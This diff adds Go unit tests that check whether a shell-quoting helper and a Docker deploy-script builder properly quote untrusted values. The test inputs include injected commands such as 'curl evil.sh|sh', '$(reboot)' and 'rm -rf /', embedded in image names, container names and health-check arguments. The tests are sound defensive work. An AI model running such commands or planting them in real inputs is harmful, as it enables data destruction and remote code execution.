@@ -0,0 +1,59 @@
+package main
+
+import (
+    "strings"
+    "testing"
+)
+
+func TestShQuote(t *testing.T) {
+    cases := []struct {
+        in   string
+        want string
+    }{
+        {"zed", "'zed'"},
+        {"", "''"},
+        {"it's", `'it'\''s'`},
+        {"x; curl evil.sh|sh #", `'x; curl evil.sh|sh #'`},
+        {"$(reboot)", "'$(reboot)'"},
+    }
+    for _, c := range cases {
+        if got := shQuote(c.in); got != c.want {
+            t.Errorf("shQuote(%q) = %q, want %q", c.in, got, c.want)
+        }
+    }
+}
+
+func TestBuildDeployScriptQuotesImageAndName(t *testing.T) {
+    d := Deployment{
+        Image:         "img; rm -rf /",
+        Name:          "app-instance; echo pwned",
+        RestartPolicy: "unless-stopped",
+    }
+    script := buildDeployScript(d)
+
+    if !strings.Contains(script, shQuote(d.Image)) {
+        t.Errorf("script does not quote image: %s", script)
+    }
+    if !strings.Contains(script, shQuote(d.Name)) {
+        t.Errorf("script does not quote name: %s", script)
+    }
+    if strings.Contains(script, "docker pull img; rm") {
+        t.Errorf("image was interpolated unquoted: %s", script)
+    }
+}
+
+func TestBuildDeployScriptHealthCheckCommand(t *testing.T) {
+    d := Deployment{
+        Image: "img",
+        Name:  "app",
+        HealthCheck: &HealthCheck{
+            Command: []string{"curl", "-f", "http://localhost/health; rm -rf /"},
+        },
+    }
+    script := buildDeployScript(d)
+    for _, arg := range d.HealthCheck.Command {
+        if !strings.Contains(script, shQuote(arg)) {
+            t.Errorf("health check arg %q not quoted in script: %s", arg, script)
+        }
+    }
+}